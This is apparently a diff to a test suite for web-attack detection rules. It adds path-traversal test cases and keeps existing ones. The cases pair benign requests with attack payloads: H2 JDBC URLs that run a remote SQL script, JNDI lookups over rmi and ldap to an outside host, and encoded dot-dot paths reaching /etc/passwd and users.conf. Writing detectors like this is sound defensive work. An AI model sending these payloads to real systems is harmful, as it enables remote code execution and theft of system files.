@@ -1,5 +1,5 @@
 /**
- * Bundled rules of rev 2026-12-06c (issue 18, session 19): mechanisms held-out-12's misses with a visible payload
+ * Bundled rules of rev 2026-12-06c and 06d (issue 18, session 19): mechanisms held-out-12's misses with a visible payload
  * showed (and 9000807, held-out-3's H2-console JNDI login; 9001256 rev 2, which an arbitrary cookie no longer
  * dodges), written for the class of exploit rather than the
  * product. Each fires on its attack, sent the way such an exploit sends it, and stays quiet on the benign text
@@ -44,9 +44,13 @@ const CASES: RuleCase[] = [
   [9001027, 'block', 'an H2 URL with INIT=RUNSCRIPT in a JSON data source', json('{"url":"jdbc:h2:mem:a;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM \'http://203.0.113.9/x.sql\'"}'), json('{"url":"jdbc:h2:mem:a;DB_CLOSE_DELAY=-1;MODE=MySQL"}')],
   [9000807, 'block', "the H2 console's login form with javax.naming.InitialContext and an rmi URL", { method: 'POST', url: '/h2-console/login.do?jsessionid=4f1c2e9a', headers: FORM_HEADERS, body: 'language=en&setting=Generic+H2+%28Embedded%29&name=Generic+H2+%28Embedded%29&driver=javax.naming.InitialContext&url=rmi%3A%2F%2F203.0.113.9%3A1389%2FExploit&user=&password=' }, { method: 'POST', url: '/h2-console/login.do?jsessionid=4f1c2e9a', headers: FORM_HEADERS, body: 'language=en&setting=Generic+H2+%28Embedded%29&name=Generic+H2+%28Embedded%29&driver=org.h2.Driver&url=jdbc%3Ah2%3A~%2Ftest&user=sa&password=' }],
   [9000807, 'block', 'a JSON data source with driverClassName javax.naming.InitialContext', json('{"driverClassName":"javax.naming.InitialContext","url":"ldap://203.0.113.9:1389/a"}'), json('{"driverClassName":"com.mysql.cj.jdbc.Driver","url":"jdbc:mysql://db/x","note":"javax.naming.InitialContext is for JNDI"}')],
+  [9000416, 'block', 'a JSON url in a form value climbing two levels above a one-segment path', form('json=%7B%22url%22%3A%22%2Fgeneral%2F..%2F..%2Fattach%2Fim%2F2376%2F5fjfb3Yo.jpg%22%7D'), form('json=%7B%22url%22%3A%22%2Fgeneral%2Freports%2F..%2Fattach%2Fim%2F2376%2Fa.jpg%22%7D')],
+  [9000416, 'block', 'a file parameter climbing three levels above a two-segment path', q('file=/var/www/../../../etc/passwd'), q('file=../../assets/logo.png&back=/docs/guide/../index.html')],
+  [9000417, 'block', 'an encoded dot segment in a resources path', { url: '/gitblit/resources/.%2e/.%2e/data/users.conf' }, { url: '/search?q=.%2e%2f&p=1' }],
+  [9000417, 'block', 'a fully encoded double dot in the path', { url: '/static/%2e%2e/%2e%2e/etc/hosts' }, { url: '/files/v1.2.%2e-notes.txt' }],
 ];
 
-describe("bundled rules for held-out-12's exploit mechanisms (rev 2026-12-06c)", () => {
+describe("bundled rules for held-out-12's exploit mechanisms (rev 2026-12-06c, 2026-12-06d)", () => {
   testRuleCases(CASES, hits);
 
   testPrefilterEntries(CASES.map(([sid]) => sid), rules);
